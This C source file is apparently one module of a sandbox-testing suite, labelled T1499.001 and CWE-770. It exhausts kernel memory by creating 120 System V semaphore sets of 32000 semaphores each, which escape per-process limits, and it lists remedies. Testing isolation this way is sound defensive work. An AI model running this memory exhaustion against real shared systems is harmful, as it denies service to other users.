// SPDX-License-Identifier: MIT
/*
 * semaphore-sets.c - a memory bomb made of traffic lights.
 *
 * Goal: more memory than the budget.
 * Means: a semaphore is a line of the processor's cache, 64 bytes of the kernel's, and a set may
 * have 32000 of them, by default. One call makes one set, 2 MB, in no address space and behind no
 * descriptor: no limit of a process counts it, and shmget(2) is the name that lists have.
 */
#include "attacks/attack.h"

#include <sys/ipc.h>
#include <sys/sem.h>

enum { SETS = 120, SEMAPHORES = 32000 };

static enum claim run(const struct brief *b)
{
	enum claim claim = CLAIM_DONE;
	int id[SETS], n = 0;

	attempting(b);
	while (n < SETS && claim == CLAIM_DONE) {
		id[n] = semget(IPC_PRIVATE, SEMAPHORES, IPC_CREAT | 0600);
		if (id[n] < 0)
			claim = denied("semget");
		else
			n++;
	}
	if (claim == CLAIM_DONE)
		claim = hold();
	while (n-- > 0)
		semctl(id[n], 0, IPC_RMID); /* they would outlive us */
	return claim;
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget, in no process at all",
	.means = "System V sets of 32000 semaphores each",
	.oracle = "usage:memory",
	.threshold = 128 << 20, /* half of what it takes; no limit leaves it a part */
	.needs = NEED_SYSVIPC,
	.attack_id = "T1499.001, CWE-770",
	.remedy = "deny semget; kernel.sem; a memory cgroup with kernel memory",
	.refs = (const char *const[]){ "semget(2)", "proc_sys_kernel(5): sem", NULL },
	.run = run,
};
